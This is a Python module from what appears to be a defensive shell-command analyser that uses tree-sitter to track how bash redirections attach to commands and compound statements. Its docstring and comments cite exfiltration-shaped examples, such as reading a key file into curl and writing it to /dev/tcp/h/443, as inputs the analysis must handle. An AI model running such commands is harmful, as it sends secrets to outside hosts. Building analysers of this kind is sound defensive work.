"""Redirected statements, for :mod:`pipeline.analysis.shell.syntax`'s flattener: where each
redirection goes. A simple command's are its own; a list's or pipeline's go to its last
command (``a && b 2>f | c``: the grammar puts them around the whole); a compound's
(``{ ...; } > f``, ``while ...; done < f``) are a stage of their own that gathers the
compound's output (:mod:`pipeline.analysis.shell.stages`), and its stdin and the descriptors
it opens are also its body's commands' (:func:`pipeline.analysis.shell.stages.around`: ``while
read l; do curl .../$l; done < key`` reads the key line by line, ``{ cat key >&3; }
3<>/dev/tcp/h/443`` sends it), also when the compound ends a pipeline the grammar
redirected whole (``cat x | while ...; done < f``).
"""

from __future__ import annotations

from collections.abc import Iterable

import tree_sitter

from pipeline.analysis.shell.redirects import COMPOUND_STDIN
from pipeline.analysis.shell.stages import ROOT, Stage, around
from pipeline.analysis.shell.syntax_command import CommandReader

__all__ = ["RedirectedWalk", "piped_into", "redirected_whole"]

# a simple command's node types (what is not one is a compound, a list or a pipeline)
_COMMANDS = ("command", "declaration_command", "unset_command", "test_command", "redirected_statement",
             "variable_assignment", "variable_assignments")


def redirected_whole(node: tree_sitter.Node) -> bool:
    """True when a redirection applies to this compound as a whole, where the walk of the
    redirected statement marks it (:mod:`pipeline.analysis.shell.syntax_redirected`): it is
    the body, or the last element of the pipeline or list the grammar redirected."""
    child, parent = node, node.parent
    while parent is not None and parent.type in ("list", "pipeline"):
        last = _named(parent, reversed(range(parent.named_child_count)))
        if last is None or last.id != child.id:
            return False
        child, parent = parent, parent.parent
    return parent is not None and parent.type == "redirected_statement"


def _named(node: tree_sitter.Node, order: Iterable[int]) -> tree_sitter.Node | None:
    """The first named child other than a comment, in ``order`` (indexes): one child looked at,
    not the list of a pipeline's thousands (``a | b | c ...``: each element asks)."""
    for i in order:
        child = node.named_child(i)
        if child is not None and child.type != "comment":
            return child
    return None


def piped_into(node: tree_sitter.Node) -> bool:
    """True when this node is itself an element of a pipeline after its first (``a | { ...; }``,
    also through a list: ``a && b | { ...; }``); a compound nested first in one piped into
    is not (it reads what the outer one gives it)."""
    child, parent = node, node.parent
    while parent is not None and parent.type in ("list", "pipeline"):
        if parent.type == "pipeline":
            first = _named(parent, range(parent.named_child_count))
            if first is not None and first.id != child.id:
                return True
        child, parent = parent, parent.parent
    return False


class RedirectedWalk(CommandReader):
    """The flattener's walk of redirected statements (its other walks are the subclass's)."""

    pipelines: list[list[Stage]]
    starts: dict[int, tuple[int, int]]  # each pipeline element's first stage: (pipeline, index)

    def piped_part(self, node: tree_sitter.Node, first: bool) -> None:
        """One element of a pipeline (the flattener's)."""
        raise NotImplementedError

    def inline(self, node: tree_sitter.Node, first: bool) -> None:
        """A list or pipeline nested in a pipeline (the flattener's)."""
        raise NotImplementedError

    def flush(self) -> None:
        """What followed a here-doc start on its line (the flattener's)."""
        raise NotImplementedError

    def redirected(self, node: tree_sitter.Node, first: bool) -> None:
        """A command with redirections. ``a | b > o && c | d > p && ...`` comes nested, each
        redirection around the list before it; the chain is walked without recursion (so
        hundreds of such links cost no stack), each redirection going to its list's last
        command, in the order the recursive walk took."""
        chain = [node]
        while (body := chain[-1].child_by_field_name("body")) is not None and body.type == "list":
            parts = [c for c in body.named_children if c.type != "comment"]
            if not parts or parts[0].type != "redirected_statement":
                break
            chain.append(parts[0])
        outer = [(link, self.redirections(link)[0]) for link in chain[:-1]]
        self.redirected_one(chain[-1], first)
        for link, redirs in reversed(outer):
            body = link.child_by_field_name("body")
            for child in [c for c in body.named_children if c.type != "comment"][1:]:
                self.pipelines.append([])
                if child.type in ("list", "pipeline"):
                    self.inline(child, False)
                else:
                    self.piped_part(child, False)
            self.to_last(redirs)

    def to_last(self, redirs: list[tuple[str, str]]) -> None:
        """Redirections of a list: its last command's (``a && b 2>f | c``)."""
        last = self.pipelines[-1][-1] if self.pipelines[-1] else None
        if last is not None:
            last.redirs.extend(redirs)
        else:
            self.pipelines[-1].append(Stage([], redirs, subshells=tuple(self.subshells), group=self.groups.current))

    def redirected_one(self, node: tree_sitter.Node, first: bool) -> None:
        """One redirected statement whose body is not such a chain."""
        body = node.child_by_field_name("body")
        redirs, extra = self.redirections(node)
        if body is None:
            self.pipelines[-1].append(Stage([], redirs, subshells=tuple(self.subshells), group=self.groups.current))
            self.flush()
            return
        if body.type in ("command", "declaration_command", "unset_command", "test_command"):
            stage = self.stage(body)
            stage.words.extend(extra)
            stage.redirs.extend(redirs)
            self.pipelines[-1].append(stage)
            self.flush()
            return
        if body.type in ("list", "pipeline"):  # `a && b 2>f | c`: the redirection is b's
            self.inline(body, first)
            last: tree_sitter.Node | None = body
            while last is not None and last.type in ("list", "pipeline"):
                last = next((c for c in reversed(last.named_children) if c.type != "comment"), None)
            if last is not None and last.type not in _COMMANDS and redirs and last.id in self.starts:
                at = self.starts[last.id]
                around(self.pipelines, at, redirs, piped=at[1] > 0 and piped_into(last))  # `cat x | while ...; done < f`
                # its stdin is the compound's (around), not its last command's own: that command
                # keeps them for their effects only (a file read, a body's substitutions run);
                # a copy between other descriptors (`3<&0`) is the compound's alone (the layers)
                redirs = [(COMPOUND_STDIN + op if op in ("<", "<>", "<<", "<<<", "<&") else op, t) for op, t in redirs
                          if not (op[:1].isdigit() and op.endswith(("<&", ">&")))]
            self.to_last(redirs)
            return
        body_group = len(self.groups.parents)  # the group the body opens, if it is one
        start = (len(self.pipelines) - 1, len(self.pipelines[-1]))  # where its first command goes
        self.piped_part(body, first)  # `{ ...; } > f`, `while ...; done < f`: the group's own
        takes = body_group if len(self.groups.parents) > body_group else ROOT
        if takes != ROOT and redirs:  # `while read l; do ...; done < f`, `{ cat key >&3; } 3<>/dev/tcp/...`
            around(self.pipelines, start, redirs, piped=start[1] > 0 and piped_into(node))
        self.pipelines.append([Stage([], redirs, subshells=tuple(self.subshells), group=self.groups.current, takes=takes)])
        self.flush()
